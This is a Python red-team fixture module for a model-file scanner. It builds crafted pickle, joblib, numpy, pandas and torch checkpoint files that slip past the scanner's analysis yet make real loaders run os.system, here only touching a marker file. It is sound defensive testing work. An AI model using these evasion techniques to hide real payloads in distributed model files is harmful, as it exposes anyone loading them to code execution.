"""Red-team fixtures: artefacts a REAL loader executes but modelshield once passed (or left inconclusive).

Each builder returns file bytes whose payload only creates the file named by the environment
variable MODELSHIELD_MARKER (`os.system('touch "$MODELSHIELD_MARKER"')`). Nothing here loads a
pickle; `tests/helpers/real_loaders.py` does that in a throw-away subprocess to prove each fixture runs.
"""
from __future__ import annotations

import struct
from dataclasses import dataclass
from typing import Callable

CMD = 'touch "$MODELSHIELD_MARKER"'


def short_unicode(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def binunicode(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def text_string(text: str) -> bytes:
    return b"S'" + text.encode().replace(b"'", b"\\'") + b"'\n"


def global_(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


# os.system(CMD): protocol 0 opcodes only / binary opcodes.
PAYLOAD_TEXT = global_("os", "system") + b"(" + text_string(CMD) + b"tR"
PAYLOAD_BIN = global_("os", "system") + binunicode(CMD) + b"\x85R"


def filler(length: int) -> bytes:
    """Opcodes of exactly `length` (>= 4) bytes that leave the stack unchanged: a string, POPped."""
    n = length - 3
    assert 0 <= n < 256
    return b"\x8c" + bytes([n]) + b"a" * n + b"0"


@dataclass(frozen=True)
class Attack:
    id: str
    file: str
    loader: str  # pickle | pypickle | joblib | numpy | pandas | torch | torch-bytesio
    build: Callable[[], bytes]
    note: str
    expect: str = "os.system"  # the callable a blocking finding names


ATTACKS: list[Attack] = []


def attack(id: str, file: str, loader: str, note: str, expect: str = "os.system"):
    def register(fn: Callable[[], bytes]) -> Callable[[], bytes]:
        ATTACKS.append(Attack(id, file, loader, fn, note, expect))
        return fn
    return register


# ---------------------------------------------------------------- text opcodes parsed like _pickle.c
@attack("int-hex", "int_hex.pkl", "pickle", "INT read with strtol(base 0): 'I0x1' is 1; the VM stopped")
def _int_hex() -> bytes:
    return b"I0x1\n0" + PAYLOAD_TEXT + b"."


@attack("int-nul", "int_nul.pkl", "pickle", "INT text ends at a NUL for strtol: 'I5\\0junk' is 5")
def _int_nul() -> bytes:
    return b"I5\x00junk\n0" + PAYLOAD_TEXT + b"."


@attack("long-hex", "long_hex.pkl", "pickle", "LONG read with PyLong_FromString(base 0): 'L0x1L'")
def _long_hex() -> bytes:
    return b"L0x1L\n0" + PAYLOAD_TEXT + b"."


@attack("float-nul", "float_nul.pkl", "pickle", "FLOAT text ends at a NUL for PyOS_string_to_double")
def _float_nul() -> bytes:
    return b"F1.5\x00x\n0" + PAYLOAD_TEXT + b"."


# ---------------------------------------------------------------- FRAME: pure-Python unframer
def _short_frame() -> bytes:
    body = PAYLOAD_BIN + b"."
    return b"\x80\x04\x95" + struct.pack("<Q", len(body) + 500) + body


attack("short-frame-joblib", "short_frame.joblib", "joblib",
       "FRAME longer than the file: _pickle fails, joblib's pure-Python unframer runs it")(_short_frame)
attack("short-frame-pyload", "short_frame.pkl", "pypickle",
       "the same file through pickle._load (pure-Python Unpickler)")(_short_frame)


# ---------------------------------------------------------------- .npy object dtypes spelled oddly
def npy(descr: object, payload: bytes) -> bytes:
    header = repr({"descr": descr, "fortran_order": False, "shape": (1,)}).encode()
    header += b" " * ((64 - (10 + len(header) + 1) % 64) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


NPY_PAYLOAD = b"\x80\x04" + PAYLOAD_BIN + b"."
for _descr, _name in (("object_", "object_"), ("2O", "subarray_2O"), ("(2,)O", "subarray_paren"),
                      ("i4,O", "comma_struct"), ("b1,object", "comma_object")):
    attack(f"npy-{_name}", f"npy_{_name}.npy", "numpy",
           f"descr {_descr!r}: numpy builds an object dtype and unpickles the data")(
        (lambda d=_descr: npy(d, NPY_PAYLOAD)))


# ---------------------------------------------------------------- joblib array wrappers
def joblib_head(dtype_descr: str = "V8", flags: int = 0, count: int = 3, itemsize: int = 8,
                dotted: bool = False) -> bytes:
    """A joblib 1.6 `NumpyArrayWrapper` header (what joblib.dump writes), frame included, up to BUILD."""
    wrapper = (short_unicode("joblib") + b"\x94" + short_unicode("numpy_pickle.NumpyArrayWrapper") if dotted
               else short_unicode("joblib.numpy_pickle") + b"\x94" + short_unicode("NumpyArrayWrapper"))
    dtype_state = (b"(K\x03" + short_unicode("|") + b"NNN" + b"K" + bytes([itemsize]) + b"K\x01" +
                   b"K" + bytes([flags]) + b"t")
    body = (wrapper + b"\x94\x93)\x81}(" +
            short_unicode("subclass") + short_unicode("numpy") + short_unicode("ndarray") + b"\x93" +
            short_unicode("shape") + b"K" + bytes([count]) + b"\x85" +
            short_unicode("order") + short_unicode("C") +
            short_unicode("dtype") + short_unicode("numpy") + short_unicode("dtype") + b"\x93" +
            short_unicode(dtype_descr) + b"\x89\x88\x87R" + dtype_state + b"b" +
            short_unicode("allow_mmap") + b"\x88" +
            short_unicode("numpy_array_alignment_bytes") + b"K\x10" + b"ub")
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


@attack("joblib-hasobject-flag", "v8_flags.joblib", "joblib",
        "dtype V8 whose BUILD state sets NPY_ITEM_HASOBJECT: joblib unpickles where raw bytes were expected")
def _joblib_flags() -> bytes:
    # The VM used to read 0x80 (the nested PROTO) as padding length: 1 + 128 + 3*8 bytes skipped.
    size = 1 + 0x80 + 3 * 8
    core = b"\x80\x04" + PAYLOAD_BIN + b"0"
    nested = core + filler(size - len(core) - 2) + b"N."
    return joblib_head(flags=0x3F) + nested + b"."


@attack("joblib-raw-is-opcodes", "raw_opcodes.pkl", "pickle",
        "a joblib file loaded with pickle.load: the 'raw array bytes' are opcodes to pickle")
def _joblib_raw_opcodes() -> bytes:
    region = 1 + 0x30 + 3 * 8  # joblib: pad byte '0' (48) + padding + data; pickle.load: POP + payload
    core = b"0" + PAYLOAD_BIN
    return joblib_head() + core + filler(region - len(core)) + b"."


attack("joblib-raw-is-opcodes-torch", "raw_opcodes.pt", "torch",
       "the same file through torch.load (legacy path: pickle.load of the 'magic number')")(_joblib_raw_opcodes)


@attack("joblib-dotted-wrapper", "dotted_wrapper.joblib", "joblib",
        "wrapper imported as `joblib` + `numpy_pickle.NumpyArrayWrapper`: no array skip, analysis stopped")
def _joblib_dotted() -> bytes:
    return joblib_head(dotted=True) + b"\x00" + b"\xff" * 24 + b"0" + PAYLOAD_BIN + b"."


@attack("joblib-far-wrapper", "far_wrapper.joblib", "joblib",
        "70 KiB before the wrapper import: the head sniff chose the plain flavour")
def _joblib_far() -> bytes:
    lead = b"\x80\x04X" + struct.pack("<I", 70_000) + b"z" * 70_000 + b"0"
    return lead + joblib_head()[11:] + b"\x00" + b"\xff" * 24 + b"0" + PAYLOAD_BIN + b"."


# ---------------------------------------------------------------- torch zip checkpoints
def _torch_zip(rename: Callable[[str], str], payload: bytes) -> bytes:
    """A real torch.save zip whose `<archive>/data.pkl` is replaced (and maybe renamed)."""
    import io
    import zipfile

    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.zeros(2)}, buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            name, data = info.filename, src.read(info)
            if name.endswith("/data.pkl"):
                name, data = rename(name), payload
            dst.writestr(name, data)
    return out.getvalue()


@attack("torch-zip-upper-case", "upper_case.pt", "torch",
        "miniz finds records case-insensitively: torch.load unpickles archive/DATA.PKL")
def _torch_upper() -> bytes:
    return _torch_zip(lambda n: n.replace("data.pkl", "DATA.PKL"), b"\x80\x02" + PAYLOAD_BIN + b".")


@attack("torch-zip-text-hex", "text_hex.pt", "torch",
        "protocol 0 data.pkl starting with a hex INT (the VM used to stop at 'I0x1')")
def _torch_text_hex() -> bytes:
    return _torch_zip(lambda n: n, b"I0x1\n0" + PAYLOAD_TEXT + b".")


# ---------------------------------------------------------------- opcode handlers the VM refused
# No PROTO: _pickle.c and pickle._Unpickler run any opcode first. Before the fix the trial run
# stopped on these (so the file was "no pickle" and inventoried whatever its name).
def bytearray_append() -> bytes:
    return b"\x96" + struct.pack("<Q", 0) + b"K\x01a0" + PAYLOAD_BIN + b"."


attack("bytearray-append", "bytearray_append.pkl", "pickle",
       "APPEND on a BYTEARRAY8: _pickle.c calls bytearray.extend; the VM said 'no attribute'")(bytearray_append)
attack("bytearray-append-py", "bytearray_append_py.pkl", "pypickle",
       "the same through pickle._Unpickler (bytearray.append)")(bytearray_append)


@attack("bytearray-setitem", "bytearray_setitem.dat", "pickle",
        "SETITEM on a BYTEARRAY8 (bytearray[0] = 1), unfamiliar name")
def _bytearray_setitem() -> bytes:
    return b"\x96" + struct.pack("<Q", 1) + b"\x00K\x00K\x01s0" + PAYLOAD_BIN + b"."


@attack("long4-huge", "long4_huge.pkl", "pickle",
        "a LONG4 longer than the VM's inline cap: _pickle.c decodes ints of any size")
def _long4_huge() -> bytes:
    n = (1 << 20) + 7
    return b"\x8b" + struct.pack("<i", n) + b"\x01" * n + b"0" + PAYLOAD_BIN + b"."


# ---------------------------------------------------------------- imports that run a module
# find_class imports the module before it looks the name up, and importing a module runs it
# (stdlib `antigravity`, `unittest.__main__`; a repository's own .py next to the model). The
# loader subprocess gets a planted module, IMPORT_MODULE, whose import only creates the marker.
IMPORT_MODULE = "ms_redteam_marker_mod"
IMPORT_MODULE_SOURCE = 'import os\nopen(os.environ["MODELSHIELD_MARKER"], "w").close()\n'


@attack("import-odd-name", "odd_name.pkl", "pickle",
        "GLOBAL whose name is no identifier, then junk: the module is imported (and runs) before getattr fails",
        expect=IMPORT_MODULE)
def _import_odd_name() -> bytes:
    return global_(IMPORT_MODULE, "no such name!") + b"\xff"  # nothing after it is ever read


@attack("inst-no-mark-py", "inst_no_mark.pkl", "pypickle",
        "INST without a MARK: pickle._Unpickler imports before it looks for the MARK (C looks first)",
        expect=IMPORT_MODULE)
def _inst_no_mark() -> bytes:
    return b"i" + IMPORT_MODULE.encode() + b"\nName\n."


# ---------------------------------------------------------------- STOP inside a FRAME
# A reader that takes a whole frame from the file (_pickle.c when the frame is larger than the
# file's read-ahead, or on a BytesIO; the pure-Python unpickler always) leaves the file at the
# frame end: the next pickle.load starts there, not after STOP. Decoy streams fill the rest.
def _frame(body: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body)) + body


def _pad(n: int) -> bytes:
    return b"B" + struct.pack("<I", n) + b"\0" * n + b"0"  # BINBYTES, POPped


TORCH_MAGIC = (0x1950A86A20F9469CFC6C).to_bytes(10, "little")


@attack("torch-legacy-stop-in-frame", "stop_in_frame.pt", "torch",
        "legacy torch file whose magic-number pickle STOPs inside a 16 KiB frame: torch.load's next "
        "pickle.load starts at the frame end; the VM read clean decoy pickles after STOP")
def _torch_stop_in_frame() -> bytes:
    decoy = b"M\xe9\x03." + b"}." + b"}." + b"]."  # protocol 1001, sys_info, main, storage keys
    first = b"\x8a\x0a" + TORCH_MAGIC + b"." + decoy + _pad(16_000) + b"N."
    return b"\x80\x02" + _frame(first) + b"M\xe9\x03." + b"}." + PAYLOAD_BIN + b"." + b"]."


# ---------------------------------------------------------------- call arguments pickle._Unpickler spreads
@attack("reduce-list-args-py", "reduce_list_args.pkl", "pypickle",
        "REDUCE with a list for arguments: _pickle.c wants a tuple, pickle._Unpickler calls func(*args); "
        "the VM stopped there (inconclusive) and never saw the payload after it")
def _reduce_list_args() -> bytes:
    return b"\x80\x04" + short_unicode("collections") + short_unicode("OrderedDict") + b"\x93]R0" + PAYLOAD_BIN + b"."


@attack("newobj-list-args-py", "newobj_list_args.pkl", "pypickle",
        "NEWOBJ with a list for arguments: cls.__new__(cls, *args) in the pure-Python unpickler")
def _newobj_list_args() -> bytes:
    return b"\x80\x04" + short_unicode("collections") + short_unicode("OrderedDict") + b"\x93]\x810" + \
        PAYLOAD_BIN + b"."


@attack("joblib-object-stop-in-frame", "object_stop_in_frame.joblib", "joblib",
        "object-dtype array whose nested pickle STOPs inside a 20 KB frame: joblib's outer unpickler goes "
        "on at the frame end; the VM went on after STOP (a decoy STOP there)")
def _joblib_object_stop_in_frame() -> bytes:
    import io

    import joblib
    import numpy

    buf = io.BytesIO()
    joblib.dump(numpy.array([1, "x"], dtype=object), buf)
    real = buf.getvalue()
    outer_end = 11 + struct.unpack("<Q", real[3:11])[0]  # the wrapper's frame; the nested pickle follows
    inner = real[outer_end + 11:-1]  # the nested pickle's opcodes, past its PROTO and FRAME header
    return real[:outer_end] + b"\x80\x05" + _frame(inner + b"." + _pad(20_000) + b"N.") + b"0" + PAYLOAD_BIN + b"."


# ---------------------------------------------------------------- an opcode crossing a FRAME end
# _pickle.c holds exactly a frame in its buffer when it had to read() it (a frame longer than the
# file's read-ahead, or no peek); an argument crossing the frame end is read afresh from the file
# after the frame, so the rest of the frame is dropped. A linear reader stops on the dropped bytes.
@attack("frame-straddle-unicode", "straddle_unicode.pkl", "pickle",
        "BINUNICODE whose text crosses the end of a 20 KB frame: the trial read it linearly and stopped "
        "before any import (no pickle), _pickle.c reading the file runs the payload")
def _straddle_unicode() -> bytes:
    k, n = 16, 64
    body = _pad(20_000) + b"X" + struct.pack("<I", n) + b"b" * k
    return _frame(body) + b"a" * (n - k) + b"\x00" * k + b"0" + PAYLOAD_BIN + b"."


@attack("frame-straddle-long4", "straddle_long4.pkl", "pickle",
        "the same with a LONG4 longer than the VM reads into memory (skipped, not read)")
def _straddle_long4() -> bytes:
    k, n = 16, (1 << 20) + 64
    body = _pad(20_000) + b"\x8b" + struct.pack("<i", n) + b"\x01" * k
    return _frame(body) + b"\x01" * (n - k) + b"\x00" * k + b"0" + PAYLOAD_BIN + b"."


# ---------------------------------------------------------------- concatenated compressed streams
@attack("lzma-xz-then-alone", "xz_then_alone.joblib", "joblib",
        "an .xz stream followed by a raw LZMA one: lzma.LZMAFile (joblib) decodes both (FORMAT_AUTO)")
def _xz_then_alone() -> bytes:
    import lzma
    return lzma.compress(b"N0") + lzma.compress(b"\x80\x04" + PAYLOAD_BIN + b".", format=lzma.FORMAT_ALONE)


@attack("lzma-alone-then-alone", "alone_then_alone.joblib", "joblib",
        "two raw LZMA streams (joblib's 'lzma' compressor writes one per dump)")
def _alone_then_alone() -> bytes:
    import lzma
    return lzma.compress(b"N0", format=lzma.FORMAT_ALONE) + \
        lzma.compress(b"\x80\x04" + PAYLOAD_BIN + b".", format=lzma.FORMAT_ALONE)


@attack("gzip-zero-padding", "padded.pkl.gz", "pandas",
        "gzip member, zero padding, another member: the gzip module (pandas.read_pickle) skips the zeros "
        "and reads on; the scan stopped at the padding")
def _gzip_zero_padding() -> bytes:
    import gzip
    return gzip.compress(b"N0") + b"\x00" * 8 + gzip.compress(b"\x80\x04" + PAYLOAD_BIN + b".")


# ---------------------------------------------------------------- a last line without newline
@attack("eof-line-import-py", "eof_line.pkl", "pypickle",
        "GLOBAL at the end of the file without its last newline: pickle._Unpickler strips the last byte of "
        "file.readline() whatever it is and imports the module; _pickle.c and the VM said 'truncated'",
        expect=IMPORT_MODULE)
def _eof_line_import() -> bytes:
    return b"c" + IMPORT_MODULE.encode() + b"\n"


@attack("joblib-wrapper-reconstructor", "wrapper_reconstructor.joblib", "joblib",
        "NumpyArrayWrapper made by copyreg._reconstructor: joblib's load_build skips the array bytes by "
        "isinstance(); the VM looked at the callable, read the bytes as a STOP and a BINBYTES hiding the payload")
def _joblib_wrapper_reconstructor() -> bytes:
    body = joblib_head()[11:]
    body = b"ccopyreg\n_reconstructor\n" + body.replace(b"\x93)\x81", b"\x93cbuiltins\nobject\nN\x87R")
    tail = b"0" + PAYLOAD_BIN + b"."
    pad = ord(".")  # joblib: pad length byte, padding, 3 * 8 data bytes; the VM: STOP, then BINBYTES over the rest
    region = bytes([pad]) + b"B" + struct.pack("<I", pad + 24 - 5 + len(tail) - 1)
    region += b"\0" * (1 + pad + 24 - len(region))
    return b"\x80\x04" + body + region + tail  # no FRAME: nothing hands the BUILD back to a slow path


# ---------------------------------------------------------------- torch's legacy tar layout
def torch_tar(storages_tail: bytes) -> bytes:
    """A torch < 0.4 tar checkpoint: no storages, no tensors, an empty dict; `storages` ends with
    the storage-views pickle torch.load reads after the storage records."""
    import io
    import tarfile

    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in (("sys_info", b"\x80\x02}."), ("pickle", b"\x80\x02}."),
                           ("storages", b"\x80\x02K\x00." + storages_tail), ("tensors", b"\x80\x02K\x00.")):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


attack("torch-tar-storage-views", "storage_views.pt", "torch",
       "legacy tar checkpoint: torch.load unpickles a storage-views pickle after the storage records; "
       "the scan stopped after the records")((lambda: torch_tar(b"\x80\x02" + PAYLOAD_BIN + b".")))


@attack("torch-bytesio-nested-frame", "nested_frame.pt", "torch-bytesio",
        "legacy torch file read from memory: a FRAME inside the magic-number pickle's frame; _pickle.c on a "
        "BytesIO (no peek) goes on at the outer frame end after STOP, the VM read decoys after STOP")
def _torch_bytesio_nested_frame() -> bytes:
    decoy = b"M\xe9\x03." + b"}." + b"}." + b"]."
    first = b"\x95" + struct.pack("<Q", 1) + b"\x8a\x0a" + TORCH_MAGIC + b"." + decoy + b"N0"
    return b"\x80\x02" + _frame(first) + b"M\xe9\x03." + b"}." + PAYLOAD_BIN + b"." + b"]."
